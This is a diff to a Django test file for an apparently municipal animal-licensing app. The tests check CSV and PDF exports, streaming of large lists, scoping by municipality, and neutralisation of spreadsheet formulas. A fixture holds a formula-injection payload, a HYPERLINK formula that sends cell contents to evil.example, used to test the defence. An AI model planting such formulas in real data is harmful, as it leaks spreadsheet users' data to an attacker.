@@ -1,14 +1,20 @@
-"""Every list page exports CSV: the tables the page shows, scoped like the page."""
+"""Every list page and report exports CSV from its table object (lib/tables.py): the complete
+list, streamed, scoped like the page; and no cell leaves Dogtag as a spreadsheet formula."""
 
 import csv
 import io
 from datetime import date
 
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 
 from dogtag.accounts.models import Role
-from dogtag.lib.csv_export import tables_to_csv
-from tests.base import BaseTestCase, make_user, on
+from dogtag.enforcement.models import Case
+from dogtag.imports.models import ImportRun
+from dogtag.lib.tables import FORMULA_STARTS, Column, Report, cell, neutralise, table, to_csv
+from dogtag.registry import actions
+from tests.base import BaseTestCase, make_user, on, text
 from tests.licensing.base import benton_license
 
 LIST_PAGES = [
@@ -24,15 +30,26 @@ LIST_PAGES = [
     ("application-queue", ["benton"]),
     ("my-cases", []),
     ("municipality-cases", ["benton"]),
+    ("hen-permits", ["webster"]),
 ]
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
 
-def test_tables_become_csv_sections_without_the_why():
-    html = """<h2>Animals</h2><table><tr><th>Name</th><th>Tag</th></tr><tr><td> Rex </td><td>101
-    <details><summary>why?</summary>§ 115-3</details></td></tr></table>
-    <h2>People</h2><table><tr><td>Pat, Owner</td></tr></table>"""
-    rows = list(csv.reader(io.StringIO(tables_to_csv(html))))
-    assert rows == [["Animals"], ["Name", "Tag"], ["Rex", "101"], [], ["People"], ["Pat, Owner"]]
+def rows_of(response) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text(response))))
+
+
+def test_a_formula_is_neutralised_and_a_number_is_not():
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        assert neutralise(f"{start}1+1") == f"'{start}1+1"
+    assert neutralise("Pat Owner") == "Pat Owner"
+    assert cell(EVIL) == "'" + EVIL
+    from decimal import Decimal
+
+    assert cell(Decimal("-5")) == "-5.00"  # a refund is a number, not a formula
+    assert cell(-3) == "-3"
+    report = Report("R", "", [table("People", [Column("Name", "name")], [type("P", (), {"name": EVIL})()])])
+    assert list(csv.reader(io.StringIO(to_csv(report)))) == [["Name"], ["'" + EVIL]]
 
 
 @on(date(2026, 11, 29))
@@ -41,30 +58,101 @@ class ListCsvTests(BaseTestCase):
     def setUpTestData(cls):
         super().setUpTestData()
         benton_license(cls)
-        cls.staff = make_user("staffer", (cls.benton, Role.CLERK), (cls.benton, Role.OFFICER))
+        cls.staff = make_user(
+            "staffer", (cls.benton, Role.CLERK), (cls.benton, Role.OFFICER), (cls.webster, Role.CLERK)
+        )
 
-    def test_every_list_page_offers_and_serves_csv(self):
+    def test_every_list_page_offers_and_serves_csv_and_pdf(self):
         self.login(self.staff)
         for name, args in LIST_PAGES:
             with self.subTest(name):
                 url = reverse(name, args=args)
-                page = self.client.get(url, {"q": "Rex"} if name == "search" else {})
+                query = {"q": "Rex"} if name == "search" else {}
+                page = self.client.get(url, query)
                 self.assertContains(page, "Export this list as CSV")
-                r = self.client.get(url, {"format": "csv", **({"q": "Rex"} if name == "search" else {})})
-                self.assertEqual(r["Content-Type"], "text/csv; charset=utf-8")
+                r = self.client.get(url, {"format": "csv", **query})
                 self.assertEqual(r.status_code, 200)
-                list(csv.reader(io.StringIO(r.content.decode())))
+                self.assertEqual(r["Content-Type"], "text/csv; charset=utf-8")
+                self.assertTrue(r.streaming)
+                self.assertTrue(rows_of(r))
+                pdf = self.client.get(url, {"format": "pdf", **query})
+                self.assertEqual(pdf.status_code, 200)
+                self.assertTrue(pdf.content.startswith(b"%PDF"))
 
     def test_the_search_export_holds_what_the_page_shows(self):
         self.login(self.clerk)
-        rows = list(
-            csv.reader(io.StringIO(self.client.get("/search/", {"q": "Rex", "format": "csv"}).content.decode()))
-        )
+        rows = rows_of(self.client.get("/search/", {"q": "Rex", "format": "csv"}))
         self.assertIn(["Animals"], rows)
         self.assertTrue(any(row[:1] == ["Rex"] for row in rows))
 
     def test_another_municipalitys_clerk_gets_no_rows(self):
         self.login(self.outsider)
         self.assertEqual(self.client.get(reverse("unlicensed", args=["benton"]), {"format": "csv"}).status_code, 404)
-        body = self.client.get("/search/", {"q": "Rex", "format": "csv"}).content.decode()
-        self.assertNotIn("Rex", body)
+        self.assertEqual(
+            self.client.get(reverse("municipality-cases", args=["benton"]), {"format": "csv"}).status_code, 404
+        )
+        self.assertNotIn("Rex", text(self.client.get("/search/", {"q": "Rex", "format": "csv"})))
+
+
+class CompleteExportTests(BaseTestCase):
+    def test_a_list_of_ten_thousand_exports_ten_thousand_rows(self):
+        Case.objects.bulk_create(
+            Case(municipality=self.benton, kind=Case.Kind.COMPLAINT, title=f"Barking {i}", opened_on=date(2026, 1, 2))
+            for i in range(10_000)
+        )
+        self.login(self.officer)
+        url = reverse("municipality-cases", args=["benton"])
+        self.assertContains(self.client.get(url), "Barking", count=200)  # the page shows its first 200
+        with CaptureQueriesContext(connection) as queries:
+            rows = rows_of(self.client.get(url, {"format": "csv"}))
+        # One query reads the cases, its rows fetched in chunks as the CSV is written.
+        self.assertEqual(sum('FROM "enforcement_case"' in q["sql"] for q in queries.captured_queries), 1)
+        self.assertEqual(rows[0], ["Case", "Opened", "Animal", "Owner", "Status"])
+        self.assertEqual(len(rows), 1 + 10_000)
+        self.assertEqual(len({row[0] for row in rows[1:]}), 10_000)
+
+
+@on(date(2026, 11, 29))
+class FormulaInjectionTests(BaseTestCase):
+    """A person, an animal and a file named with a formula, through every path CSV leaves by.
+    (Dogtag writes no Excel file; the import's refusals are shown on its page, not exported.)"""
+
+    @classmethod
+    def setUpTestData(cls):
+        super().setUpTestData()
+        benton_license(cls)
+        cls.evil = actions.create_person(
+            acting_user=cls.clerk, municipality=cls.benton, name=EVIL, street="1 A St", city="Benton",
+            postal_code="53803",
+        )
+        cls.evil_dog = actions.register_animal(
+            acting_user=cls.clerk, municipality=cls.benton, owner=cls.evil, name=EVIL, breed="Mutt", color="black",
+            sex="male", birth_date=date(2024, 3, 1), acquired_on=date(2024, 5, 1),
+        )
+        Case.objects.create(municipality=cls.benton, kind=Case.Kind.COMPLAINT, title=EVIL, owner=cls.evil)
+        ImportRun.objects.create(
+            municipality=cls.benton, file_name=EVIL + ".csv", file_sha256="0" * 64, started_by=cls.clerk
+        )
+        cls.staff = make_user("staffer", (cls.benton, Role.CLERK), (cls.benton, Role.OFFICER))
+
+    def assert_neutralised(self, response):
+        body = text(response)
+        cells = [c for row in csv.reader(io.StringIO(body)) for c in row if "HYPERLINK" in c]
+        self.assertTrue(any(c.startswith("'=") for c in cells), body[:500])
+        for c in cells:
+            self.assertFalse(c.startswith(FORMULA_STARTS), c)
+
+    def test_no_export_carries_the_formula(self):
+        self.login(self.staff)
+        paths = {
+            "search": ("/search/", {"q": "HYPERLINK"}),
+            "unlicensed list": (reverse("unlicensed", args=["benton"]), {}),
+            "municipality's cases": (reverse("municipality-cases", args=["benton"]), {}),
+            "unlicensed report": (reverse("report-unlicensed", args=["benton"]), {}),
+            "imports": (reverse("import", args=["benton"]), {}),
+        }
+        for name, (url, query) in paths.items():
+            with self.subTest(name):
+                r = self.client.get(url, {"format": "csv", **query})
+                self.assertEqual(r.status_code, 200)
+                self.assert_neutralised(r)
